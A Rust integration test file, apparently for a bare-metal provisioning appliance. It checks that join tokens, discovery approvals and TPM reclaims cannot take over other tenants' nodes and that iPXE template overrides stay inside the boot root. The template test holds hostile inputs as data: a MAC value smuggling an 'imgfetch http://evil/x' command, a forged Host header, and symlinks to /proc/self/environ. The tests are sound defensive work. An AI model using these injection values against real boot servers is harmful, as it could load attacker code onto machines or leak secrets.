//! A security review of the "house" restructuring (one admission writer, `join::admit`; the
//! attestors' rules in `domain::admission`; iPXE templates; `bca dev`'s try files), as attacks
//! against the real binary: a tenant holding its own join tokens, a machine on the rack network
//! (one that can make a DHCP sighting of any MAC), an operator's mistake in the boot root.
//! Each test asserts what the attacker sees and what the database keeps.
//!
//! Register it in tests/tests.rs: `#[path = "it/house_attacks.rs"] mod house_attacks;`

use crate::common::*;
use crate::discovery::{appliance, boot, discovery_join, succeeded};
use crate::tpm::Swtpm;
use crate::tpmjoin::tpm_join;
use serde_json::{json, Value};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
}

const NODE_COLS: [&str; 14] = [
    "role",
    "trust",
    "rediscover",
    "boot_mac",
    "identifiers_by",
    "hostname",
    "claims_json",
    "tenant_id",
    "pool_id",
    "hardware_key",
    "hardware_key_trusted",
    "tpm_ek_sha256",
    "identity_generation",
    "state",
];

/// What a reclaim may or may not change of a node's row, column by column.
fn node_record(a: &Appliance, id: &str) -> Vec<(String, String)> {
    let sql = format!("SELECT {} FROM nodes WHERE id = ?1", NODE_COLS.join(", "));
    a.db()
        .query_row(&sql, [id], |r| {
            Ok(NODE_COLS
                .iter()
                .enumerate()
                .map(|(i, c)| (c.to_string(), format!("{:?}", r.get_ref(i).unwrap())))
                .collect::<Vec<_>>())
        })
        .unwrap()
}

/// The columns whose values differ between two records.
fn changed(before: &[(String, String)], after: &[(String, String)]) -> Vec<String> {
    before
        .iter()
        .zip(after)
        .filter(|(b, a)| b.1 != a.1)
        .map(|(b, _)| b.0.clone())
        .collect()
}

fn unrevoked_certs(a: &Appliance, node: &str) -> i64 {
    a.count(&format!(
        "SELECT count(*) FROM node_certs WHERE node_id = '{node}' AND revoked_at IS NULL"
    ))
}

fn is_connected(a: &Appliance, node: &str) -> bool {
    a.count(&format!("SELECT connected FROM nodes WHERE id = '{node}'")) == 1
}

fn tenant_with_pool(a: &Appliance, name: &str) -> (String, String) {
    let t = a.api_ok("tenants/create", json!({"name": name}))["id"]
        .as_str()
        .unwrap()
        .to_string();
    let p = a.api_ok(
        "pools/create",
        json!({"tenantId": t, "name": format!("{name}-pool")}),
    )["id"]
        .as_str()
        .unwrap()
        .to_string();
    (t, p)
}

fn pending(a: &Appliance, mac: &str) -> Option<Value> {
    a.cli_json(&["join-requests", "list"])["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["mac"] == mac && r["state"] == "pending")
        .cloned()
}

/// A machine PXE-boots, asks, and an operator approves it into `pool`: its node id, and the
/// unpacked ramdisk it joined from.
fn discovered(a: &Appliance, pool: &str, m: &Value) -> (String, std::path::PathBuf) {
    let mac = m["macs"][0].as_str().unwrap();
    let (_, dir) = boot(a, mac);
    let agent = discovery_join(&dir, &write_claims(a, m), 60);
    let req = wait_for("a pending request", 20, || pending(a, mac));
    a.cli_json(&[
        "join-requests",
        "approve",
        req["id"].as_str().unwrap(),
        "--pool",
        pool,
    ]);
    (succeeded(agent), dir)
}

/// `bca agent run` on a ramdisk's identity (its config from the per-boot archive).
fn ramdisk_run(dir: &Path) -> Child {
    Command::new(bin())
        .args(["agent", "run", "--config"])
        .arg(dir.join("etc/bca-agent/config.toml"))
        .arg("--data-dir")
        .arg(dir.join("data"))
        .args(["--backoff-base-ms", "400", "--backoff-cap-ms", "3000"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

fn stop(mut c: Child) {
    let _ = c.kill();
    let _ = c.wait();
}

/// A tenant's join token, however it is minted (`allowReclaim`, another pool), never reaches a
/// node of another tenant or another pool: `join:reclaim`, the token keeps its use, the node
/// keeps its generation and its certificate. The refusal lands in the token's tenant and does not
/// name the other tenant's node. (A hosted reclaim in the node's own pool is admitted since issue
/// 28: `join::a_hosted_reclaim_lowers_a_platform_node_unless_the_platform_operates_the_pool`.)
#[test]
fn a_join_token_never_reclaims_a_node_of_another_tenant_or_pool() {
    let a = Appliance::start();
    let sim = Sim::new(&a);
    let pool_a = a.pool("a1");
    let pool_a2 = a.pool("a2");
    let (tb, pool_b) = tenant_with_pool(&a, "tenant-b");
    let victim = machine();
    let (_, t) = a.token(&pool_a, json!({}));
    let node = sim.admitted(&t, &victim).node_id;
    let record = node_record(&a, &node);

    let (b_reclaim, b_reclaim_tok) =
        a.token(&pool_b, json!({"tenantId": tb, "allowReclaim": true}));
    let (_, b_plain) = a.token(&pool_b, json!({"tenantId": tb}));
    let (a2_reclaim, a2_tok) = a.token(&pool_a2, json!({"allowReclaim": true}));
    let before = a.snapshot_but(&["events"]);
    for (who, tok) in [
        ("tenant B, allowReclaim", &b_reclaim_tok),
        ("tenant B, plain", &b_plain),
        ("same tenant, another pool", &a2_tok),
    ] {
        let (raw, _, _) = sim.join(tok, &victim);
        assert_eq!(raw, refused_bytes(), "{who}: admitted");
        let (tenant, ev) = a.last_event("security.join.refused").unwrap();
        assert_eq!(ev["reason"], "join:reclaim", "{who}: {ev}");
        assert!(
            ev.get("nodeId").is_none(),
            "{who}: the refusal names the node: {ev}"
        );
        if who.starts_with("tenant B") {
            assert_eq!(tenant, tb, "{who}: the refusal went to another tenant");
        }
    }
    assert_eq!(
        a.snapshot_but(&["events"]),
        before,
        "a refused reclaim wrote something"
    );
    assert_eq!(a.uses_left(b_reclaim["id"].as_str().unwrap()), 1);
    assert_eq!(a.uses_left(a2_reclaim["id"].as_str().unwrap()), 1);
    assert_eq!(node_record(&a, &node), record);
    assert_eq!(unrevoked_certs(&a, &node), 1);
    assert_eq!(
        a.count(&format!(
            "SELECT count(*) FROM events WHERE tenant_id = '{tb}' AND data LIKE '%{node}%'"
        )),
        0
    );
    // (Known, not new: the refusal tells tenant B that some node holds these identifiers, where
    // a machine nobody holds is admitted. Claims are not secret; the oracle is the site's.)
    let (_, b_more) = a.token(&pool_b, json!({"tenantId": tb}));
    sim.admitted(&b_more, &machine());
}

/// A join-token reclaim changes what it changed before the one-writer restructuring, and no
/// more: generation, claims and hostname, `identifiers_by = token`; role, trust, boot MAC,
/// the rediscovery mark, tenant and pool are kept; every older certificate is revoked.
#[test]
fn a_token_reclaim_writes_only_what_it_did_before() {
    let a = Appliance::start();
    let sim = Sim::new(&a);
    let pool = a.pool("rack-a");
    let m = machine();
    let (_, t1) = a.token(&pool, json!({}));
    let node = sim.admitted(&t1, &m).node_id;
    a.cli_json(&["nodes", "rediscover", &node]);
    a.db()
        .execute(
            "UPDATE nodes SET boot_mac = '52:54:00:0b:0b:0b' WHERE id = ?1",
            [&node],
        )
        .unwrap();
    let before = node_record(&a, &node);
    let (_, t2) = a.token(&pool, json!({"allowReclaim": true}));
    let mut again = m.clone();
    again["hostname"] = json!("reinstalled");
    assert_eq!(sim.admitted(&t2, &again).node_id, node);
    let after = node_record(&a, &node);
    let mut diff = changed(&before, &after);
    diff.sort();
    assert_eq!(
        diff,
        ["claims_json", "hostname", "identity_generation"],
        "{before:?}\n{after:?}"
    );
    let n = a.cli_json(&["nodes", "get", &node]);
    assert_eq!(
        (n["role"].as_str(), n["trust"].as_str()),
        (Some("node"), Some("platform"))
    );
    assert_eq!(unrevoked_certs(&a, &node), 1);
    assert_eq!(
        a.count(&format!(
            "SELECT count(*) FROM node_certs WHERE node_id = '{node}' AND revoke_reason = 'reclaimed'"
        )),
        1
    );
    assert_eq!(
        a.count(&format!(
            "SELECT count(*) FROM audit WHERE action = 'node.reclaimed' AND target = '{node}'"
        )),
        1
    );
}

/// Under `unknown-machines`, a machine on the rack network that makes a sighting of a known
/// node's boot MAC and names its identifiers (with another hostname and one more MAC): while
/// the node holds a session it only opens a request, and the node is untouched; once the node
/// is gone it is admitted as that node (the documented cost of `unknown-machines`), but the
/// node's recorded claims, hostname, boot MAC, trust and `identifiers_by` are not the attacker's.
#[test]
fn an_unapproved_discovery_reclaim_never_records_the_claimants_identifiers() {
    let a = appliance("unknown-machines");
    let pool = a.pool("rack-a");
    let m = machine();
    let mac = m["macs"][0].as_str().unwrap().to_string();
    let (node, dir) = discovered(&a, &pool, &m);
    let runner = ramdisk_run(&dir);
    wait_for("the session", 20, || is_connected(&a, &node).then_some(()));
    let record = node_record(&a, &node);

    let mut forged = m.clone();
    forged["hostname"] = json!("evil");
    forged["macs"] = json!([mac, "52:54:00:ee:ee:ee"]);
    let forged = write_claims(&a, &forged);
    let (_, adir) = boot(&a, &mac);
    let out = discovery_join(&adir, &forged, 3)
        .wait_with_output()
        .unwrap();
    assert!(
        !out.status.success(),
        "admitted while the node is connected: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(node_record(&a, &node), record);
    assert_eq!(unrevoked_certs(&a, &node), 1);
    let req = pending(&a, &mac).expect("a request for an operator");
    assert_eq!(req["conflictingNode"]["nodeId"], json!(node));
    assert!(is_connected(&a, &node));

    stop(runner);
    wait_for("the disconnection", 20, || {
        (!is_connected(&a, &node)).then_some(())
    });
    let (_, adir) = boot(&a, &mac);
    let out = discovery_join(&adir, &forged, 10)
        .wait_with_output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), node);
    let after = node_record(&a, &node);
    assert_eq!(
        changed(&record, &after),
        ["identity_generation"],
        "{record:?}\n{after:?}"
    );
    assert_eq!(unrevoked_certs(&a, &node), 1);
    assert_eq!(
        a.count("SELECT count(*) FROM join_requests WHERE state IN ('pending', 'approved')"),
        0
    );
    let (_, ev) = a.last_event("node.joined").unwrap();
    assert_eq!(
        (ev["reclaim"].as_bool(), ev["knownMachine"].as_bool()),
        (Some(true), Some(true))
    );
}

/// An operator approves a known machine's new request into another tenant's pool: the retry
/// is refused (`join:reclaim`); the node, its certificate and the discovery token are as they
/// were (only the approval itself is written).
#[test]
fn an_approval_into_another_tenants_pool_never_reclaims_a_discovered_node() {
    let a = appliance("always");
    let pool = a.pool("rack-a");
    let (tb, pool_b) = tenant_with_pool(&a, "tenant-b");
    let m = machine();
    let mac = m["macs"][0].as_str().unwrap().to_string();
    let (node, _) = discovered(&a, &pool, &m);
    let record = node_record(&a, &node);
    // It reboots into the ramdisk (a new CSR) and asks again.
    let (_, dir) = boot(&a, &mac);
    let agent = discovery_join(&dir, &write_claims(&a, &m), 30);
    let req = wait_for("a pending request", 20, || pending(&a, &mac));
    assert_eq!(req["conflictingNode"]["nodeId"], json!(node));
    let before = a.snapshot_but(&["events", "audit", "join_requests"]);
    a.cli_json(&[
        "join-requests",
        "approve",
        req["id"].as_str().unwrap(),
        "--pool",
        &pool_b,
        "--tenant",
        &tb,
    ]);
    let out = agent.wait_with_output().unwrap();
    assert!(
        !out.status.success(),
        "admitted: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(
        a.last_event("security.join.refused").unwrap().1["reason"],
        "join:reclaim"
    );
    assert_eq!(
        a.snapshot_but(&["events", "audit", "join_requests"]),
        before,
        "the refused retry wrote something"
    );
    assert_eq!(node_record(&a, &node), record);
    assert_eq!(unrevoked_certs(&a, &node), 1);
    assert_eq!(
        a.count(&format!(
            "SELECT count(*) FROM nodes WHERE tenant_id = '{tb}'"
        )),
        0
    );
    assert_eq!(
        a.count("SELECT count(*) FROM discovery_tokens WHERE spent_at IS NOT NULL"),
        1,
        "only the first admission's token is spent"
    );
}

/// A reclaim an operator approved ends the node's live session (the old certificate is revoked
/// and the connection closed), as before the restructuring.
#[test]
fn an_approved_discovery_reclaim_closes_the_old_session() {
    let a = appliance("always");
    let pool = a.pool("rack-a");
    let m = machine();
    let mac = m["macs"][0].as_str().unwrap().to_string();
    let (node, dir) = discovered(&a, &pool, &m);
    let runner = ramdisk_run(&dir);
    wait_for("the session", 20, || is_connected(&a, &node).then_some(()));
    let (_, dir2) = boot(&a, &mac);
    let agent = discovery_join(&dir2, &write_claims(&a, &m), 60);
    let req = wait_for("a pending request", 20, || pending(&a, &mac));
    a.cli_json(&[
        "join-requests",
        "approve",
        req["id"].as_str().unwrap(),
        "--pool",
        &pool,
    ]);
    assert_eq!(succeeded(agent), node);
    wait_for("the old session to close", 10, || {
        (!is_connected(&a, &node)).then_some(())
    });
    assert!(a.last_event("node.disconnected").is_some());
    assert_eq!(unrevoked_certs(&a, &node), 1);
    stop(runner);
}

/// Found by the attack review of the restructuring (the code before it did the same): a
/// join-token reclaim revoked the node's older certificates but left its live session open,
/// heartbeating on a revoked certificate and shown `connected`, where a discovery reclaim and
/// `nodes revoke-identity` closed it. Every reclaim now ends the replaced identity's session.
#[test]
fn a_token_reclaim_closes_the_old_session() {
    let a = Appliance::start();
    let pool = a.pool("rack-a");
    let m = machine();
    let claims = write_claims(&a, &m);
    let (_, t1) = a.token(&pool, json!({}));
    let dir = a.agent_dir();
    let o = agent_join(&dir, "data", &claims, &t1, &[]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let node = String::from_utf8_lossy(&o.stdout).trim().to_string();
    let runner = agent_run(&dir);
    wait_for("the session", 20, || is_connected(&a, &node).then_some(()));
    let (_, t2) = a.token(&pool, json!({"allowReclaim": true}));
    let dir2 = a.agent_dir();
    let o = agent_join(&dir2, "data", &claims, &t2, &[]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), node);
    wait_for("the revoked identity's session to close", 10, || {
        (!is_connected(&a, &node)).then_some(())
    });
    stop(runner);
}

/// A TPM whose EK is already a node's: a ramdisk node may come back as a `node` (its role the
/// only field besides claims and generation that changes), a `node` never goes back to
/// `ramdisk`, and an allow-list entry in another tenant's pool never moves the node there.
/// Refusals write nothing. (A token join with the TPM node's claims makes a separate node: the
/// TPM node's hardware key is never trusted, as `join::tpm` says.)
#[test]
fn a_known_ek_reclaims_only_its_own_node_in_its_own_pool() {
    let tpm = Swtpm::start(true);
    let a = Appliance::start();
    let pool = a.pool("tpm-a");
    let (tb, pool_b) = tenant_with_pool(&a, "tenant-b");
    let status = a.cli_json(&["tpm", "status", "--tpm", &tpm.tcti()]);
    let ek = status["ek"]["rsa"]["publicKeySha256"]
        .as_str()
        .unwrap()
        .to_string();
    let o = a.cli(&["tpm", "allow-ek", &ek, "--pool", &pool]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let dir = a.agent_dir();
    let m = machine();
    let o = tpm_join(&dir, &write_claims(&a, &m), &tpm, &["--role", "ramdisk"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let node = String::from_utf8_lossy(&o.stdout).trim().to_string();
    let first = node_record(&a, &node);

    let mut renamed = m.clone();
    renamed["hostname"] = json!("installed");
    let renamed = write_claims(&a, &renamed);
    let o = tpm_join(&dir, &renamed, &tpm, &["--reset", "--yes"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), node);
    let second = node_record(&a, &node);
    let mut diff = changed(&first, &second);
    diff.sort();
    assert_eq!(
        diff,
        ["claims_json", "hostname", "identity_generation", "role"],
        "{first:?}\n{second:?}"
    );

    // A `node` back to `ramdisk`: refused, nothing written.
    let before = a.snapshot_but(&["events"]);
    let o = tpm_join(
        &dir,
        &renamed,
        &tpm,
        &["--reset", "--yes", "--role", "ramdisk"],
    );
    assert!(!o.status.success());
    assert_eq!(
        a.last_event("security.join.refused").unwrap().1["reason"],
        "join:reclaim"
    );
    assert_eq!(a.snapshot_but(&["events"]), before);

    // The EK allow-listed into tenant B's pool: the node stays tenant A's.
    assert!(a.cli(&["tpm", "remove-ek", &ek]).status.success());
    let o = a.cli(&["tpm", "allow-ek", &ek, "--pool", &pool_b, "--tenant", &tb]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let before = a.snapshot_but(&["events"]);
    let o = tpm_join(&dir, &renamed, &tpm, &["--reset", "--yes"]);
    assert!(!o.status.success());
    assert_eq!(
        a.last_event("security.join.refused").unwrap().1["reason"],
        "join:reclaim"
    );
    assert_eq!(a.snapshot_but(&["events"]), before);
    assert_eq!(node_record(&a, &node), second);
    assert_eq!(unrevoked_certs(&a, &node), 1);
    assert_eq!(
        a.count(&format!(
            "SELECT count(*) FROM nodes WHERE tenant_id = '{tb}'"
        )),
        0
    );
}

/// `curl` with URL globbing off (the paths below hold `{{`), and `extra` arguments.
fn get_raw(a: &Appliance, path: &str, extra: &[&str]) -> (u16, String) {
    let o = Command::new("curl")
        .args(["-s", "-g", "-w", "\n%{http_code}"])
        .args(extra)
        .arg(format!("http://{}{path}", a.http))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&o.stdout).to_string();
    let (body, code) = text.rsplit_once('\n').unwrap();
    (code.parse().unwrap(), body.to_string())
}

/// The template override is read beneath the boot root only: a link out of it (to the state's
/// config, to `/proc/self/environ`, the `templates` folder itself a link), a FIFO or a folder
/// in a template's place gives the built-in script, at once and without hanging. A MAC that is
/// not a MAC never reaches a script, and the Host header is not reflected.
#[test]
fn template_overrides_never_leave_the_boot_root_and_values_cannot_inject() {
    let a = appliance("always");
    let root = a.state().join("boot");
    let templates = root.join("templates");
    std::fs::create_dir_all(&templates).unwrap();
    let outside = a.dir.path().join("outside.ipxe");
    std::fs::write(&outside, "#!ipxe\necho SECRET-OUTSIDE {{mac}}\n").unwrap();
    let p = templates.join("discovery.ipxe");
    let builtin = |script: &str, mac: &str| {
        script.contains(&format!("echo bca: discovery ramdisk for {mac}"))
    };
    let cases: [(&str, &dyn Fn()); 5] = [
        ("a link to a file outside", &|| {
            std::os::unix::fs::symlink(&outside, &p).unwrap()
        }),
        ("a link to the state's config", &|| {
            std::os::unix::fs::symlink(a.state().join("config.toml"), &p).unwrap()
        }),
        ("a link to /proc/self/environ", &|| {
            std::os::unix::fs::symlink("/proc/self/environ", &p).unwrap()
        }),
        ("a FIFO", &|| {
            output_ok(Command::new("mkfifo").arg(&p));
        }),
        ("a folder", &|| std::fs::create_dir(&p).unwrap()),
    ];
    for (i, (what, make)) in cases.iter().enumerate() {
        make();
        let mac = format!("52:54:00:7e:02:{i:02x}");
        let t = std::time::Instant::now();
        let (script, _) = boot(&a, &mac);
        assert!(builtin(&script, &mac), "{what}: {script}");
        assert!(
            !script.contains("SECRET")
                && !script.contains("trust_domain")
                && !script.contains(PASSPHRASE),
            "{what}: {script}"
        );
        assert!(
            t.elapsed() < std::time::Duration::from_secs(10),
            "{what}: slow"
        );
        let _ = std::fs::remove_file(&p);
        let _ = std::fs::remove_dir(&p);
    }
    // The folder itself a link out of the root.
    std::fs::remove_dir(&templates).unwrap();
    let outdir = a.dir.path().join("outdir");
    std::fs::create_dir(&outdir).unwrap();
    std::fs::copy(&outside, outdir.join("discovery.ipxe")).unwrap();
    std::fs::copy(&outside, outdir.join("chain.ipxe")).unwrap();
    std::os::unix::fs::symlink(&outdir, &templates).unwrap();
    let (script, _) = boot(&a, "52:54:00:7e:02:10");
    assert!(builtin(&script, "52:54:00:7e:02:10"), "{script}");
    let (code, chain) = curl(&a, "/api/compute/boot/chain.ipxe", "GET");
    assert_eq!(code, 200);
    assert!(!chain.contains("SECRET"), "{chain}");
    std::fs::remove_file(&templates).unwrap();
    std::fs::create_dir(&templates).unwrap();
    // A relative link inside the root is followed; an absolute one, even inside the root, is
    // not (openat2 RESOLVE_BENEATH): the built-in script, and a warning (docs/boot.md).
    std::fs::write(root.join("site.ipxe"), "#!ipxe\necho SITE {{mac}}\n").unwrap();
    std::os::unix::fs::symlink("../site.ipxe", &p).unwrap();
    // (A script of the site's own, with no ramdisk to fetch: read as iPXE would.)
    sight(&a, "52:54:00:7e:02:11");
    let (code, script) = get_raw(&a, "/api/compute/boot/boot.ipxe?mac=52:54:00:7e:02:11", &[]);
    assert_eq!(code, 200);
    assert!(script.contains("echo SITE 52:54:00:7e:02:11"), "{script}");
    std::fs::remove_file(&p).unwrap();
    std::os::unix::fs::symlink(root.join("site.ipxe"), &p).unwrap();
    let (script, _) = boot(&a, "52:54:00:7e:02:12");
    assert!(builtin(&script, "52:54:00:7e:02:12"), "{script}");
    std::fs::remove_file(&p).unwrap();

    // Values: the MAC must parse as one; anything else gets the needs-mac script.
    for q in [
        "52:54:00:7e:02:13%0Aimgfetch%20http://evil/x",
        "52:54:00:7e:02:13{{nonce}}",
        "{{base}}",
        "52%3A54%3A00%3A7e%3A02%3A13%0d%0a",
    ] {
        let (code, body) = get_raw(&a, &format!("/api/compute/boot/boot.ipxe?mac={q}"), &[]);
        assert_eq!(code, 200, "{q}");
        assert!(body.contains("needs ?mac="), "{q}: {body}");
        assert!(
            !body.contains("imgfetch") && !body.contains("http"),
            "{q}: {body}"
        );
    }
    let (code, chain) = get_raw(
        &a,
        "/api/compute/boot/chain.ipxe",
        &["-H", "Host: evil.example:1"],
    );
    assert_eq!(code, 200);
    assert!(!chain.contains("evil"), "{chain}");
    // The templates folder is not a served file.
    let (code, _) = curl(
        &a,
        "/api/compute/boot/files/templates%2Fdiscovery.ipxe",
        "GET",
    );
    assert_eq!(code, 404);
}

/// `bca dev` under umask 000, on a state folder and a `try` folder an earlier run (or a hand)
/// left world-writable: the state and `try` folders become 0700, the example claims 0600; the
/// printed lines write the token 0600 and the agent's folder 0700 with its key 0600.
#[test]
fn bca_dev_try_files_are_owner_only_whatever_the_umask() {
    use std::io::{BufRead, BufReader};
    let top = tempfile::tempdir().unwrap();
    let state = top.path().join("state");
    std::fs::create_dir_all(state.join("try")).unwrap();
    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::set_permissions(state.join("try"), std::fs::Permissions::from_mode(0o777)).unwrap();
    let mut dev = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "umask 000; exec '{}' dev --state-dir '{}' --listen-http 127.0.0.1:0 --listen-gateway 127.0.0.1:0",
            bin(),
            state.display()
        ))
        .env_remove("BCA_STATE_DIR")
        .env_remove("BCA_SOCKET")
        .env("BCA_LOG", "warn")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(dev.stdout.take().unwrap());
    let mut lines = Vec::new();
    let mut heading = false;
    while lines.len() < 6 {
        let mut l = String::new();
        assert!(out.read_line(&mut l).unwrap() > 0, "bca dev ended early");
        if heading {
            match l.strip_prefix("  ") {
                Some(cmd) => lines.push(cmd.trim_end().to_string()),
                None => break,
            }
        } else if l.contains("Try, in another shell:") {
            heading = true;
        }
    }
    let try_dir = std::fs::canonicalize(&state).unwrap().join("try");
    assert_eq!(mode(&state), 0o700);
    assert_eq!(mode(&try_dir), 0o700);
    assert_eq!(mode(&try_dir.join("claims.json")), 0o600);
    let run = |line: &str| -> String {
        let o = output_ok(
            Command::new("sh")
                .arg("-c")
                .arg(format!("umask 000; {line}"))
                .env_remove("BCA_STATE_DIR")
                .env_remove("BCA_SOCKET"),
        );
        String::from_utf8_lossy(&o.stdout).to_string()
    };
    let text = run(&lines[0]);
    let i = text.find("pool_").expect(&text);
    let pool = text[i..i + 31].to_string();
    run(&lines[1].replace("<pool id>", &pool));
    assert_eq!(mode(&try_dir.join("join-token")), 0o600);
    run(&lines[2]);
    assert_eq!(mode(&try_dir.join("agent")), 0o700);
    assert_eq!(mode(&try_dir.join("agent/config.toml")), 0o600);
    run(&lines[3]);
    assert!(
        !try_dir.join("join-token").exists(),
        "the token file was not spent"
    );
    assert_eq!(mode(&try_dir.join("agent/node.key")), 0o600);
    assert_eq!(mode(&try_dir.join("agent/identity.json")), 0o600);
    let _ = Command::new("kill")
        .args(["-TERM", &dev.id().to_string()])
        .status();
    let _ = dev.wait();
}
